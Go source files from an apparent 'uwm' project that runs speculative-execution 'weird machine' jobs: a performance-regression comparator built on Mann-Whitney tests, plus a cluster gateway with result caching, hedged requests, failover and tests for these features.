	// Alpha is the significance level for the Mann-Whitney test
	// (default 0.05).
	Alpha float64
	// Threshold is the minimum relative delta to report at all and the
	// significance cutoff for sample-less metrics (default 0.10).
	Threshold float64
}

func (o *Options) normalize() {
	if o.Alpha == 0 {
		o.Alpha = 0.05
	}
	if o.Threshold == 0 {
		o.Threshold = 0.10
	}
}

// Verdict classifies one metric delta.
type Verdict string

const (
	// Same: no significant change.
	Same Verdict = "~"
	// Better: significant change in the metric's preferred direction.
	Better Verdict = "better"
	// Worse: significant change against the preferred direction — a
	// regression when the metric declares a direction.
	Worse Verdict = "worse"
	// Changed: significant change on a neutral metric.
	Changed Verdict = "changed"
	// OnlyOld / OnlyNew: the metric or experiment exists on one side.
	OnlyOld Verdict = "gone"
	OnlyNew Verdict = "new"
)

// Delta is one compared metric.
type Delta struct {
	Experiment string  `json:"experiment"`
	Metric     string  `json:"metric"`
	Unit       string  `json:"unit,omitempty"`
	Better     string  `json:"better,omitempty"`
	Old        float64 `json:"old"`
	New        float64 `json:"new"`
	// Rel is the relative change (new-old)/old; NaN when old == 0.
	Rel float64 `json:"rel"`
	// P is the Mann-Whitney two-sided p-value, or NaN when either side
	// lacks samples (threshold-only decision).
	P       float64 `json:"p"`
	NOld    int     `json:"n_old"`
	NNew    int     `json:"n_new"`
	Verdict Verdict `json:"verdict"`
}

// regression reports whether this delta counts against the gate.
func (d Delta) regression() bool { return d.Verdict == Worse }

// Comparison is the full result of comparing two reports.
type Comparison struct {
	Opts   Options `json:"options"`
	OldSHA string  `json:"old_git_sha,omitempty"`
	NewSHA string  `json:"new_git_sha,omitempty"`
	Deltas []Delta `json:"deltas"`
}

// Regressions returns the deltas that count as significant regressions.
func (c *Comparison) Regressions() []Delta {
	var out []Delta
	for _, d := range c.Deltas {
		if d.regression() {
			out = append(out, d)
		}
	}
	return out
}

// Compare evaluates new against old, metric by metric. Wall time and
// allocation counters are compared as synthetic lower-is-better
// metrics alongside each experiment's own.
func Compare(old, new *Report, opts Options) *Comparison {
	opts.normalize()
	c := &Comparison{Opts: opts, OldSHA: old.GitSHA, NewSHA: new.GitSHA}

	seen := map[string]bool{}
	names := append([]string{}, old.ExperimentNames()...)
	for _, n := range new.ExperimentNames() {
		if old.Experiment(n) == nil {
			names = append(names, n)
		}
	}
	for _, name := range names {
		if seen[name] {
			continue
		}
		seen[name] = true
		oe, ne := old.Experiment(name), new.Experiment(name)
		switch {
		case ne == nil:
			c.Deltas = append(c.Deltas, Delta{Experiment: name, Metric: "(experiment)", Verdict: OnlyOld, P: math.NaN(), Rel: math.NaN()})
			continue
		case oe == nil:
			c.Deltas = append(c.Deltas, Delta{Experiment: name, Metric: "(experiment)", Verdict: OnlyNew, P: math.NaN(), Rel: math.NaN()})
			continue
		}
		c.compareExperiment(oe, ne)
	}
	return c
}

// synthetic returns the built-in per-experiment metrics.
func synthetic(e *Experiment) []Metric {
	return []Metric{
		{Name: "wall_ns", Unit: "ns", Better: LowerIsBetter,
			Value: float64(e.WallNanos), Samples: e.WallSamples},
		{Name: "alloc_bytes", Unit: "B", Better: LowerIsBetter, Value: float64(e.AllocBytes)},
		{Name: "allocs", Unit: "", Better: LowerIsBetter, Value: float64(e.Allocs)},
	}
}

func (c *Comparison) compareExperiment(oe, ne *Experiment) {
	om := append(synthetic(oe), oe.Metrics...)
	nm := append(synthetic(ne), ne.Metrics...)
	lookup := func(ms []Metric, name string) *Metric {
		for i := range ms {
			if ms[i].Name == name {
				return &ms[i]
			}
		}
		return nil
	}
	o1 := &Experiment{Metrics: om}
	n1 := &Experiment{Metrics: nm}
	for _, name := range SortedMetricNames(o1, n1) {
		mo, mn := lookup(om, name), lookup(nm, name)
		switch {
		case mn == nil:
			c.Deltas = append(c.Deltas, Delta{Experiment: oe.Name, Metric: name, Unit: mo.Unit,
				Old: mo.Value, Rel: math.NaN(), P: math.NaN(), Verdict: OnlyOld})
			continue
		case mo == nil:
			c.Deltas = append(c.Deltas, Delta{Experiment: ne.Name, Metric: name, Unit: mn.Unit,
				New: mn.Value, Rel: math.NaN(), P: math.NaN(), Verdict: OnlyNew})
			continue
		}
		c.Deltas = append(c.Deltas, c.compareMetric(oe.Name, mo, mn))
	}
}

// compareMetric decides one delta.
func (c *Comparison) compareMetric(experiment string, mo, mn *Metric) Delta {
	d := Delta{
		Experiment: experiment,
		Metric:     mo.Name,
		Unit:       mo.Unit,
		Better:     mo.Better,
		Old:        mo.Value,
		New:        mn.Value,
		NOld:       len(mo.Samples),
		NNew:       len(mn.Samples),
		P:          math.NaN(),
		Verdict:    Same,
	}
	if mo.Value != 0 {
		d.Rel = (mn.Value - mo.Value) / math.Abs(mo.Value)
	} else if mn.Value == 0 {
		d.Rel = 0
	} else {
		d.Rel = math.NaN()
	}

	beyond := math.IsNaN(d.Rel) && mo.Value != mn.Value || math.Abs(d.Rel) >= c.Opts.Threshold
	significant := beyond
	if len(mo.Samples) >= 3 && len(mn.Samples) >= 3 {
		// Enough observations on both sides: require statistical
		// evidence as well as practical size.
		u := stats.MannWhitney(mo.Samples, mn.Samples)
		d.P = u.P
		significant = beyond && u.P <= c.Opts.Alpha
	}
	if !significant {
		return d
	}
	switch {
	case mo.Better == Neutral:
		d.Verdict = Changed
	case mn.Value == mo.Value:
		d.Verdict = Same
	case (mn.Value > mo.Value) == (mo.Better == HigherIsBetter):
		d.Verdict = Better
	default:
		d.Verdict = Worse
	}
	return d
}

// Render lays the comparison out as an aligned benchstat-style table.
// When onlyNotable is true, rows whose verdict is Same are elided.
func (c *Comparison) Render(onlyNotable bool) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "== perf comparison (threshold %.0f%%, alpha %.2f) ==\n",
		c.Opts.Threshold*100, c.Opts.Alpha)
	if c.OldSHA != "" || c.NewSHA != "" {
		fmt.Fprintf(&sb, "old %s → new %s\n", orUnknown(c.OldSHA), orUnknown(c.NewSHA))
	}
	rows := [][]string{{"experiment", "metric", "old", "new", "delta", "p", "verdict"}}
	shown := 0
	for _, d := range c.Deltas {
		if onlyNotable && d.Verdict == Same {
			continue
		}
		shown++
		rows = append(rows, []string{
			d.Experiment, d.Metric,
			formatValue(d.Old, d.Unit), formatValue(d.New, d.Unit),
			formatRel(d.Rel), formatP(d.P), string(d.Verdict),
		})
	}
	if shown == 0 {
		sb.WriteString("no notable deltas\n")
		return sb.String()
	}
	widths := make([]int, len(rows[0]))
	for _, r := range rows {
		for i, cell := range r {
			if len(cell) > widths[i] {
				widths[i] = len(cell)
			}
		}
	}
	for ri, r := range rows {
		for i, cell := range r {
			if i > 0 {
				sb.WriteString("  ")
			}
			fmt.Fprintf(&sb, "%-*s", widths[i], cell)
		}
		sb.WriteByte('\n')
		if ri == 0 {
			for i, w := range widths {
				if i > 0 {
					sb.WriteString("  ")
				}
				sb.WriteString(strings.Repeat("-", w))
			}
			sb.WriteByte('\n')
		}
	}
	if regs := c.Regressions(); len(regs) > 0 {
		fmt.Fprintf(&sb, "%d significant regression(s)\n", len(regs))
	}
	return sb.String()
}

func orUnknown(s string) string {
	if s == "" {
		return "(unknown)"
	}
	return s
}

func formatValue(v float64, unit string) string {
	var s string
	switch {
	case v == math.Trunc(v) && math.Abs(v) < 1e15:
		s = fmt.Sprintf("%.0f", v)
	case math.Abs(v) >= 1e6 || (v != 0 && math.Abs(v) < 1e-3):
		s = fmt.Sprintf("%.3g", v)
	default:
		s = fmt.Sprintf("%.4f", v)
	}
	if unit != "" {
		s += unit
	}
	return s
}

func formatRel(rel float64) string {
	if math.IsNaN(rel) {
		return "?"
	}
	return fmt.Sprintf("%+.1f%%", rel*100)
}

func formatP(p float64) string {
	if math.IsNaN(p) {
		return "-"
	}
	return fmt.Sprintf("%.3f", p)
}
