// Package cluster is the scale-out tier: a gateway that fronts N
// uwm-serve backends and makes them look like one, faster service.
//
// The paper's weird machines are slow by construction — every gate
// evaluation spends real speculative-window time — so serving heavy
// traffic means scaling out across machines and aggressively reusing
// results. Three properties of the workload shape the design:
//
//   - Jobs are deterministic given (type, payload, seed): the engine
//     reseeds each worker machine's noise stream per attempt, so the
//     same submission produces byte-identical voted JSON on any
//     backend. That makes results content-addressable — the gateway
//     hashes the canonicalized request, collapses concurrent
//     duplicates onto one backend submission (single-flight), and
//     serves repeats from a TTL+size-bounded LRU.
//   - Gates are sensitive to per-node calibration state, so routing is
//     seed-affine: weighted rendezvous hashing on (job type, seed)
//     keeps a job family on the backend whose workers are calibrated
//     warm for it, while EWMA-latency-derived weights shift share away
//     from slow or SLO-degraded backends.
//   - Latency tails are noise-driven (a drifting machine, a
//     recalibrating worker), so sync submissions hedge: after the job
//     type's observed p95, a second attempt races on a different
//     backend, the first response wins and the loser's context is
//     canceled. A token budget caps hedges at ~10% of traffic.
//
// Failure handling is probe-plus-traffic: an active prober walks
// /healthz and /v1/slo every interval, and live submissions that hit a
// dead, draining (503) or shedding (429, honoring its Retry-After)
// backend mark it immediately and fail over to another — so a backend
// SIGTERMed mid-burst costs zero client-visible failures.
//
// Correlation survives the extra hop: X-Request-Id / traceparent
// propagate to the chosen backend, the gateway remembers which backend
// served which job id and request id, and GET /v1/jobs/{id}/trace
// passes through to the owning backend's flight recorder — so
// `uwm-trace -from` pointed at the gateway replays a recording exactly
// as if pointed at the backend. GET /v1/cluster reports per-backend
// health, weights, in-flight counts, hedge accounting and cache stats.
package cluster

import (
	"encoding/json"
	"errors"
	"net/http"
	"sync"
	"sync/atomic"
	"time"

	"uwm/internal/engine/httpapi"
	"uwm/internal/metrics"
)

// Metric series exported by the gateway.
const (
	MetricRequests        = "uwm_gateway_requests_total"
	MetricRetries         = "uwm_gateway_retries_total"
	MetricNoBackend       = "uwm_gateway_no_backend_total"
	MetricCacheHits       = "uwm_gateway_cache_hits_total"
	MetricCacheMisses     = "uwm_gateway_cache_misses_total"
	MetricCacheCollapsed  = "uwm_gateway_cache_collapsed_total"
	MetricCacheEvictions  = "uwm_gateway_cache_evictions_total"
	MetricCacheEntries    = "uwm_gateway_cache_entries"
	MetricCacheBytes      = "uwm_gateway_cache_bytes"
	MetricHedges          = "uwm_gateway_hedges_total"
	MetricBackendUp       = "uwm_gateway_backend_up"
	MetricBackendEWMA     = "uwm_gateway_backend_ewma_seconds"
	MetricBackendInflight = "uwm_gateway_backend_inflight"
	MetricProbeFailures   = "uwm_gateway_probe_failures_total"
)

// Config parameterizes a Gateway.
type Config struct {
	// Backends are the uwm-serve base URLs (host:port or full URL) the
	// gateway fronts. At least one is required.
	Backends []string
	// ProbeInterval is the health-probe period (default 1s).
	ProbeInterval time.Duration
	// CacheEntries / CacheBytes / CacheTTL bound the result cache
	// (defaults 1024 entries, 64 MiB, 10m). CacheEntries < 0 disables
	// caching and single-flight collapsing entirely.
	CacheEntries int
	CacheBytes   int
	CacheTTL     time.Duration
	// Hedge enables hedged sync submissions.
	Hedge bool
	// HedgeBudget is the fraction of traffic that may hedge
	// (default 0.10).
	HedgeBudget float64
	// HedgeMinDelay / HedgeMaxDelay clamp the p95-derived hedge delay
	// (defaults 10ms / 2s); HedgeColdDelay is used until a job type has
	// enough samples for a p95 (default 50ms).
	HedgeMinDelay  time.Duration
	HedgeMaxDelay  time.Duration
	HedgeColdDelay time.Duration
	// RouteMemory caps how many job-id → backend routes the gateway
	// remembers for pass-through GETs (default 8192).
	RouteMemory int
	// Metrics, when non-nil, receives the gateway's instruments.
	Metrics *metrics.Registry
	// Client overrides the proxy HTTP client (tests); nil uses a
	// client with no overall timeout — sync jobs legitimately run for
	// the engine's per-job deadline — relying on request contexts.
	Client *http.Client
	// ProbeClient overrides the prober's HTTP client; nil uses a 2s
	// timeout.
	ProbeClient *http.Client
}

func (c Config) normalized() Config {
	if c.ProbeInterval <= 0 {
		c.ProbeInterval = time.Second
	}
	if c.CacheEntries == 0 {
		c.CacheEntries = 1024
	}
	if c.CacheBytes == 0 {
		c.CacheBytes = 64 << 20
	}
	if c.CacheTTL <= 0 {
		c.CacheTTL = 10 * time.Minute
	}
	if c.HedgeBudget <= 0 {
		c.HedgeBudget = 0.10
	}
	if c.HedgeMinDelay <= 0 {
		c.HedgeMinDelay = 10 * time.Millisecond
	}
	if c.HedgeMaxDelay <= 0 {
		c.HedgeMaxDelay = 2 * time.Second
	}
	if c.HedgeColdDelay <= 0 {
		c.HedgeColdDelay = 50 * time.Millisecond
	}
	if c.RouteMemory == 0 {
		c.RouteMemory = 8192
	}
	if c.Client == nil {
		c.Client = &http.Client{}
	}
	if c.ProbeClient == nil {
		c.ProbeClient = &http.Client{Timeout: 2 * time.Second}
	}
	return c
}

// Gateway fronts the backend pool; it is an http.Handler.
type Gateway struct {
	cfg     Config
	pool    *Pool
	cache   *resultCache
	hedge   *hedger
	handler http.Handler
	closed  atomic.Bool

	routeMu    sync.Mutex
	routes     map[string]int
	routeOrder []string

	requests  *metrics.Counter
	retries   func(reason string) *metrics.Counter
	noBackend *metrics.Counter
}

// New builds the gateway and starts its probe loop. Close releases
// the prober.
func New(cfg Config) (*Gateway, error) {
	if len(cfg.Backends) == 0 {
		return nil, errors.New("cluster: at least one backend is required")
	}
	cfg = cfg.normalized()
	g := &Gateway{
		cfg:    cfg,
		routes: make(map[string]int),
	}
	reg := cfg.Metrics
	g.pool = newPool(cfg.Backends, cfg.ProbeInterval, cfg.ProbeClient, reg)
	if cfg.CacheEntries > 0 {
		g.cache = newResultCache(cfg.CacheEntries, cfg.CacheBytes, cfg.CacheTTL)
	}
	if cfg.Hedge {
		g.hedge = newHedger(cfg.HedgeBudget, cfg.HedgeMinDelay, cfg.HedgeMaxDelay, cfg.HedgeColdDelay)
	}
	g.registerMetrics(reg)

	mux := http.NewServeMux()
	mux.HandleFunc("POST /v1/jobs", g.submit)
	mux.HandleFunc("GET /v1/jobs", g.listJobs)
	mux.HandleFunc("GET /v1/jobs/{id}", func(w http.ResponseWriter, r *http.Request) {
		g.passthrough(w, r, r.PathValue("id"), "/v1/jobs/"+r.PathValue("id"))
	})
	mux.HandleFunc("GET /v1/jobs/{id}/trace", func(w http.ResponseWriter, r *http.Request) {
		g.passthrough(w, r, r.PathValue("id"), "/v1/jobs/"+r.PathValue("id")+"/trace")
	})
	mux.HandleFunc("GET /v1/types", func(w http.ResponseWriter, r *http.Request) {
		g.passthrough(w, r, "", "/v1/types")
	})
	mux.HandleFunc("GET /v1/cluster", g.clusterStatus)
	mux.HandleFunc("GET /healthz", g.healthz)
	g.handler = httpapi.WithRequestID(mux)
	return g, nil
}

// registerMetrics exposes the gateway's instruments; a nil registry
// disables them all (nil-safe instruments throughout).
func (g *Gateway) registerMetrics(reg *metrics.Registry) {
	g.requests = reg.Counter(MetricRequests, "requests accepted by the gateway")
	g.noBackend = reg.Counter(MetricNoBackend, "submissions that found no live backend")
	g.retries = func(reason string) *metrics.Counter {
		return reg.Counter(MetricRetries, "submissions re-routed to another backend, by cause",
			metrics.L("reason", reason))
	}
	reg.CounterFunc(MetricCacheHits, "sync submissions served from the result cache",
		func() uint64 { return g.cache.stats().Hits })
	reg.CounterFunc(MetricCacheMisses, "cacheable sync submissions that missed the cache",
		func() uint64 { return g.cache.stats().Misses })
	reg.CounterFunc(MetricCacheCollapsed, "duplicate submissions collapsed onto an in-flight leader",
		func() uint64 { return g.cache.stats().Collapsed })
	reg.CounterFunc(MetricCacheEvictions, "cache entries evicted by the entry or byte bound",
		func() uint64 { return g.cache.stats().Evictions })
	reg.GaugeFunc(MetricCacheEntries, "results currently cached",
		func() float64 { return float64(g.cache.stats().Entries) })
	reg.GaugeFunc(MetricCacheBytes, "bytes currently cached",
		func() float64 { return float64(g.cache.stats().Bytes) })
	for _, outcome := range []string{"launched", "won", "lost", "suppressed"} {
		reg.CounterFunc(MetricHedges, "hedged sync submissions by outcome", func() uint64 {
			s := g.hedge.stats()
			switch outcome {
			case "launched":
				return s.Launched
			case "won":
				return s.Won
			case "lost":
				return s.Lost
			default:
				return s.Suppressed
			}
		}, metrics.L("outcome", outcome))
	}
}

// ServeHTTP implements http.Handler.
func (g *Gateway) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	g.handler.ServeHTTP(w, r)
}

// Close stops accepting (healthz turns 503 draining) and releases the
// probe loop. Safe to call twice.
func (g *Gateway) Close() {
	g.closed.Store(true)
	g.pool.Close()
}

// rememberRoute binds a job id (and its request id) to the backend
// that owns it, so pass-through GETs go straight to the right flight
// recorder. The table is a bounded FIFO: past RouteMemory bindings the
// oldest are dropped and lookups for them fall back to asking every
// backend.
func (g *Gateway) rememberRoute(backend int, ids ...string) {
	g.routeMu.Lock()
	defer g.routeMu.Unlock()
	for _, id := range ids {
		if id == "" {
			continue
		}
		if _, ok := g.routes[id]; !ok {
			g.routeOrder = append(g.routeOrder, id)
		}
		g.routes[id] = backend
		for len(g.routeOrder) > g.cfg.RouteMemory {
			delete(g.routes, g.routeOrder[0])
			g.routeOrder = g.routeOrder[1:]
		}
	}
}

// route resolves an id to its owning backend index.
func (g *Gateway) route(id string) (int, bool) {
	g.routeMu.Lock()
	defer g.routeMu.Unlock()
	idx, ok := g.routes[id]
	return idx, ok
}

// gatewayHealthz is the gateway's own /healthz body.
type gatewayHealthz struct {
	Status           string `json:"status"`
	Backends         int    `json:"backends"`
	RoutableBackends int    `json:"routable_backends"`
}

// healthz reports the gateway's own liveness: 503 while draining or
// when not a single backend is routable — the signal a fronting load
// balancer acts on.
func (g *Gateway) healthz(w http.ResponseWriter, _ *http.Request) {
	now := time.Now()
	routable := 0
	for _, b := range g.pool.Backends() {
		if b.routable(now) {
			routable++
		}
	}
	body := gatewayHealthz{
		Status:           "ok",
		Backends:         len(g.pool.Backends()),
		RoutableBackends: routable,
	}
	code := http.StatusOK
	switch {
	case g.closed.Load():
		body.Status = "draining"
		code = http.StatusServiceUnavailable
	case routable == 0:
		body.Status = "no backends"
		code = http.StatusServiceUnavailable
	}
	writeJSON(w, code, body)
}

// BackendStatus is one backend's row in the /v1/cluster payload.
type BackendStatus struct {
	Index       int       `json:"index"`
	URL         string    `json:"url"`
	State       State     `json:"state"`
	Weight      float64   `json:"weight"`
	EWMASeconds float64   `json:"ewma_seconds"`
	Inflight    int64     `json:"inflight"`
	SLODegraded bool      `json:"slo_degraded,omitempty"`
	LastProbe   time.Time `json:"last_probe"`
	LastError   string    `json:"last_error,omitempty"`
	Probes      uint64    `json:"probes"`
	ProbeFails  uint64    `json:"probe_failures"`
}

// ClusterStatus is the GET /v1/cluster payload.
type ClusterStatus struct {
	Backends []BackendStatus `json:"backends"`
	Cache    CacheStats      `json:"cache"`
	Hedge    HedgeStats      `json:"hedge"`
}

// Status assembles the cluster view served on GET /v1/cluster.
func (g *Gateway) Status() ClusterStatus {
	st := ClusterStatus{
		Cache: g.cache.stats(),
		Hedge: g.hedge.stats(),
	}
	for _, b := range g.pool.Backends() {
		b.mu.Lock()
		row := BackendStatus{
			Index:       b.Index,
			URL:         b.URL,
			State:       b.stateLocked(time.Now()),
			EWMASeconds: b.ewma,
			SLODegraded: b.sloDegraded,
			LastProbe:   b.lastProbe,
			LastError:   b.lastErr,
		}
		b.mu.Unlock()
		row.Weight = b.weight()
		row.Inflight = b.inflight.Load()
		row.Probes = b.probes.Load()
		row.ProbeFails = b.probeFails.Load()
		st.Backends = append(st.Backends, row)
	}
	return st
}

func (g *Gateway) clusterStatus(w http.ResponseWriter, _ *http.Request) {
	writeJSON(w, http.StatusOK, g.Status())
}

// writeJSON mirrors the httpapi envelope formatting so gateway bodies
// and backend bodies read identically.
func writeJSON(w http.ResponseWriter, code int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(code)
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	_ = enc.Encode(v)
}

// errorBody is the uniform error envelope, matching httpapi's.
type errorBody struct {
	Error string `json:"error"`
}
