package cluster

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"uwm/internal/engine"
	"uwm/internal/engine/httpapi"
	"uwm/internal/flightrec"
	"uwm/internal/metrics"
)

// newBackendServer starts a real uwm-serve surface — engine plus HTTP
// API plus flight recorder — for gateway tests to front.
func newBackendServer(t *testing.T) *httptest.Server {
	t.Helper()
	fr := flightrec.New(flightrec.Config{HeadRate: 1})
	e, err := engine.New(engine.Config{Workers: 1, FlightRec: fr})
	if err != nil {
		t.Fatalf("engine.New: %v", err)
	}
	srv := httptest.NewServer(httpapi.New(e))
	t.Cleanup(func() {
		srv.Close()
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		e.Close(ctx)
	})
	return srv
}

func newGateway(t *testing.T, cfg Config) *Gateway {
	t.Helper()
	gw, err := New(cfg)
	if err != nil {
		t.Fatalf("cluster.New: %v", err)
	}
	t.Cleanup(gw.Close)
	return gw
}

// do drives one request through the gateway handler and returns the
// recorder.
func do(gw *Gateway, method, target, body string, hdr map[string]string) *httptest.ResponseRecorder {
	var rd *strings.Reader
	if body != "" {
		rd = strings.NewReader(body)
	} else {
		rd = strings.NewReader("")
	}
	req := httptest.NewRequest(method, target, rd)
	req.Header.Set("Content-Type", "application/json")
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	rr := httptest.NewRecorder()
	gw.ServeHTTP(rr, req)
	return rr
}

func TestGatewayCacheHitIsByteIdentical(t *testing.T) {
	backend := newBackendServer(t)
	reg := metrics.NewRegistry()
	gw := newGateway(t, Config{
		Backends:      []string{backend.URL},
		ProbeInterval: time.Hour,
		Metrics:       reg,
	})

	body := `{"type":"gate","seed":7,"params":{"gate":"TSX_XOR","random":4}}`
	first := do(gw, http.MethodPost, "/v1/jobs?wait=1", body, nil)
	if first.Code != http.StatusOK {
		t.Fatalf("first submit: %d: %s", first.Code, first.Body.String())
	}
	if xc := first.Header().Get("X-Cache"); xc != "miss" {
		t.Fatalf("first submit X-Cache = %q, want miss", xc)
	}

	second := do(gw, http.MethodPost, "/v1/jobs?wait=1", body, nil)
	if second.Code != http.StatusOK {
		t.Fatalf("second submit: %d: %s", second.Code, second.Body.String())
	}
	if xc := second.Header().Get("X-Cache"); xc != "hit" {
		t.Fatalf("second submit X-Cache = %q, want hit", xc)
	}
	if !bytes.Equal(first.Body.Bytes(), second.Body.Bytes()) {
		t.Fatalf("cached response is not byte-identical:\nfirst:  %s\nsecond: %s",
			first.Body.String(), second.Body.String())
	}

	// The hit is visible on the metrics surface, not just the header.
	var text bytes.Buffer
	reg.WriteText(&text)
	if !strings.Contains(text.String(), MetricCacheHits+" 1") {
		t.Fatalf("metrics lack %s 1:\n%s", MetricCacheHits, text.String())
	}

	// A different seed is a different job: it must miss.
	other := do(gw, http.MethodPost, "/v1/jobs?wait=1",
		`{"type":"gate","seed":8,"params":{"gate":"TSX_XOR","random":4}}`, nil)
	if other.Code != http.StatusOK {
		t.Fatalf("seed-8 submit: %d: %s", other.Code, other.Body.String())
	}
	if xc := other.Header().Get("X-Cache"); xc != "miss" {
		t.Fatalf("seed-8 X-Cache = %q, want miss", xc)
	}
	if st := gw.cache.stats(); st.Hits != 1 || st.Misses != 2 {
		t.Fatalf("cache stats = %+v, want 1 hit / 2 misses", st)
	}
}

func TestGatewayUnseededSubmissionsBypassCache(t *testing.T) {
	backend := newBackendServer(t)
	gw := newGateway(t, Config{Backends: []string{backend.URL}, ProbeInterval: time.Hour})

	body := `{"type":"gate","params":{"gate":"TSX_XOR","random":4}}`
	for i := 0; i < 2; i++ {
		rr := do(gw, http.MethodPost, "/v1/jobs?wait=1", body, nil)
		if rr.Code != http.StatusOK {
			t.Fatalf("submit %d: %d: %s", i, rr.Code, rr.Body.String())
		}
		if xc := rr.Header().Get("X-Cache"); xc != "" {
			t.Fatalf("unseeded submit %d touched the cache (X-Cache=%q)", i, xc)
		}
	}
	if st := gw.cache.stats(); st.Hits+st.Misses != 0 {
		t.Fatalf("unseeded submissions reached the cache: %+v", st)
	}
}

func TestGatewayFailoverOnBackendDeath(t *testing.T) {
	b1 := newBackendServer(t)
	b2 := newBackendServer(t)
	const probeEvery = 50 * time.Millisecond
	gw := newGateway(t, Config{
		Backends:      []string{b1.URL, b2.URL},
		ProbeInterval: probeEvery,
		CacheEntries:  -1,
	})

	// Wait for the first probe round to see both backends up.
	waitFor(t, time.Second, func() bool {
		st := gw.Status()
		return st.Backends[0].State == StateUp && st.Backends[1].State == StateUp
	}, "both backends up")

	// Kill one backend, then burst submissions: every one must succeed
	// via failover to the survivor.
	b1.Close()
	for seed := 1; seed <= 6; seed++ {
		body := fmt.Sprintf(`{"type":"gate","seed":%d,"params":{"gate":"TSX_XOR","random":4}}`, seed)
		rr := do(gw, http.MethodPost, "/v1/jobs?wait=1", body, nil)
		if rr.Code != http.StatusOK {
			t.Fatalf("seed %d after backend death: %d: %s", seed, rr.Code, rr.Body.String())
		}
	}

	// The cluster view must reflect the death within a probe interval
	// (live traffic already marked it; the probe would confirm anyway).
	waitFor(t, 2*probeEvery, func() bool {
		rr := do(gw, http.MethodGet, "/v1/cluster", "", nil)
		var st ClusterStatus
		if rr.Code != http.StatusOK || json.Unmarshal(rr.Body.Bytes(), &st) != nil {
			return false
		}
		return st.Backends[0].State == StateDown && st.Backends[1].State == StateUp
	}, "dead backend visible in /v1/cluster")
}

func TestGatewayTraceContinuity(t *testing.T) {
	backend := newBackendServer(t)
	gw := newGateway(t, Config{Backends: []string{backend.URL}, ProbeInterval: time.Hour})

	const reqID = "gw-trace-1"
	sub := do(gw, http.MethodPost, "/v1/jobs?wait=1",
		`{"type":"gate","seed":3,"params":{"gate":"TSX_XOR","random":4}}`,
		map[string]string{"X-Request-Id": reqID})
	if sub.Code != http.StatusOK {
		t.Fatalf("submit: %d: %s", sub.Code, sub.Body.String())
	}
	var snap struct {
		ID     string `json:"id"`
		Status string `json:"status"`
	}
	if err := json.Unmarshal(sub.Body.Bytes(), &snap); err != nil || snap.ID == "" {
		t.Fatalf("submit body carries no job id: %v: %s", err, sub.Body.String())
	}

	// The job snapshot passes through to the owning backend.
	if rr := do(gw, http.MethodGet, "/v1/jobs/"+snap.ID, "", nil); rr.Code != http.StatusOK {
		t.Fatalf("snapshot pass-through: %d: %s", rr.Code, rr.Body.String())
	}

	// The flight recording is reachable via the gateway by job id...
	byID := do(gw, http.MethodGet, "/v1/jobs/"+snap.ID+"/trace?format=jsonl", "", nil)
	if byID.Code != http.StatusOK {
		t.Fatalf("trace by job id: %d: %s", byID.Code, byID.Body.String())
	}
	if byID.Header().Get("X-Trace-Decision") == "" {
		t.Error("trace pass-through dropped X-Trace-Decision")
	}
	if byID.Header().Get("X-UWM-Backend") == "" {
		t.Error("trace pass-through dropped X-UWM-Backend")
	}
	lines := strings.Split(strings.TrimRight(byID.Body.String(), "\n"), "\n")
	if len(lines) == 0 || lines[0] == "" {
		t.Fatal("trace body is empty")
	}
	for i, line := range lines {
		var ev map[string]any
		if err := json.Unmarshal([]byte(line), &ev); err != nil {
			t.Fatalf("trace line %d is not JSON: %v (%q)", i, err, line)
		}
	}

	// ...and by the request id the client correlated it under — the
	// `uwm-trace -from <gateway>` path.
	byReq := do(gw, http.MethodGet, "/v1/jobs/"+reqID+"/trace?format=jsonl", "", nil)
	if byReq.Code != http.StatusOK {
		t.Fatalf("trace by request id: %d: %s", byReq.Code, byReq.Body.String())
	}
	if byReq.Body.String() != byID.Body.String() {
		t.Error("request-id trace differs from job-id trace through the gateway")
	}
}

func TestGatewayAsyncSubmitAndPoll(t *testing.T) {
	backend := newBackendServer(t)
	gw := newGateway(t, Config{Backends: []string{backend.URL}, ProbeInterval: time.Hour})

	sub := do(gw, http.MethodPost, "/v1/jobs",
		`{"type":"covert","params":{"message":"through the gateway"}}`, nil)
	if sub.Code != http.StatusAccepted {
		t.Fatalf("async submit: %d, want 202: %s", sub.Code, sub.Body.String())
	}
	var snap struct {
		ID     string `json:"id"`
		Status string `json:"status"`
	}
	if err := json.Unmarshal(sub.Body.Bytes(), &snap); err != nil || snap.ID == "" {
		t.Fatalf("202 body carries no id: %v: %s", err, sub.Body.String())
	}

	waitFor(t, 60*time.Second, func() bool {
		rr := do(gw, http.MethodGet, "/v1/jobs/"+snap.ID, "", nil)
		if rr.Code != http.StatusOK || json.Unmarshal(rr.Body.Bytes(), &snap) != nil {
			return false
		}
		return snap.Status == "done"
	}, "async job done via gateway poll")

	// The merged job listing includes it.
	list := do(gw, http.MethodGet, "/v1/jobs", "", nil)
	if list.Code != http.StatusOK || !strings.Contains(list.Body.String(), snap.ID) {
		t.Fatalf("merged listing lacks %s: %d: %s", snap.ID, list.Code, list.Body.String())
	}
}

func TestGatewayHealthz(t *testing.T) {
	backend := newBackendServer(t)
	gw := newGateway(t, Config{Backends: []string{backend.URL}, ProbeInterval: time.Hour})
	waitFor(t, time.Second, func() bool {
		return gw.Status().Backends[0].State == StateUp
	}, "backend up")

	rr := do(gw, http.MethodGet, "/healthz", "", nil)
	if rr.Code != http.StatusOK {
		t.Fatalf("healthz: %d: %s", rr.Code, rr.Body.String())
	}
	gw.Close()
	rr = do(gw, http.MethodGet, "/healthz", "", nil)
	if rr.Code != http.StatusServiceUnavailable || !strings.Contains(rr.Body.String(), "draining") {
		t.Fatalf("healthz after Close: %d: %s, want 503 draining", rr.Code, rr.Body.String())
	}
}

// waitFor polls cond until it holds or the deadline passes.
func waitFor(t *testing.T, within time.Duration, cond func() bool, what string) {
	t.Helper()
	deadline := time.Now().Add(within)
	for {
		if cond() {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %s", what)
		}
		time.Sleep(5 * time.Millisecond)
	}
}
