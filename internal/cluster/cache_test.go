package cluster

import (
	"encoding/json"
	"fmt"
	"sync"
	"testing"
	"time"

	"uwm/internal/engine/httpapi"
)

